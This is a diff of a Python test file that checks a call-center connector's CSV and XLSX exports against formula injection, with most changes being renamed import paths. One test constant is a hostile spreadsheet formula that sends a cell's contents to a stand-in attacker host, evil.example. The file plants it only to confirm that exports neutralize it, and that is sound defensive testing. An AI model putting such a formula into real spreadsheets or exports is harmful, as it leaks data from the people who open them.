@@ -2,9 +2,9 @@
 /calls/export.xlsx and /reports/export.xlsx answer 500 for everyone who could see the call; texts from the
 PBX or the score API starting with =, +, -, @ came out as live formulas in XLSX and unescaped in CSV.
 
-Now every surface refuses control characters with one rule (connector.validation.text_problem: a 4xx naming
+Now every surface refuses control characters with one rule (connector.core.validation.text_problem: a 4xx naming
 the field, nothing written; comments keep tab and line breaks), and every export cleans each text cell and
-writes a formula-like one as text (connector.cells). Each hostile string is planted through each surface
+writes a formula-like one as text (connector.console.cells). Each hostile string is planted through each surface
 that still takes it, and every export is opened the way a person would open it."""
 import io
 import re
@@ -13,9 +13,9 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import func, select, update
 
-from connector.exports import COLUMNS
-from connector.models import Call, Score
-from connector.users import add_user
+from connector.console.exports import COLUMNS
+from connector.core.models import Call, Score
+from connector.core.users import add_user
 from tests.conftest import ADMIN_TOKEN, EXPORT_HEADERS, console_login, csrf_token, csv_rows, summary
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -35,7 +35,7 @@ AUTH = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
 
 @pytest.fixture
 def people(db, monkeypatch):
-    monkeypatch.setattr("connector.users.PASSWORD_METHOD", "scrypt:1024:8:1")
+    monkeypatch.setattr("connector.core.users.PASSWORD_METHOD", "scrypt:1024:8:1")
     with db.transaction() as s:
         add_user(s, "ann", "admin", PASSWORD)
         add_user(s, "sam", "supervisor", PASSWORD)
@@ -301,7 +301,7 @@ def test_a_phone_number_reads_as_written_and_numbers_stay_numbers(client, mango_
 # --- the cell rules alone --------------------------------------------------------------------------------
 
 def test_the_cell_rules():
-    from connector.cells import clean_text, csv_value, is_formula_like
+    from connector.console.cells import clean_text, csv_value, is_formula_like
 
     assert clean_text("bell\u0007") == "bell" and clean_text("a\tb\r\nc") == "a\tb\r\nc"
     assert clean_text("x\ufffe\uffffy") == "xy"
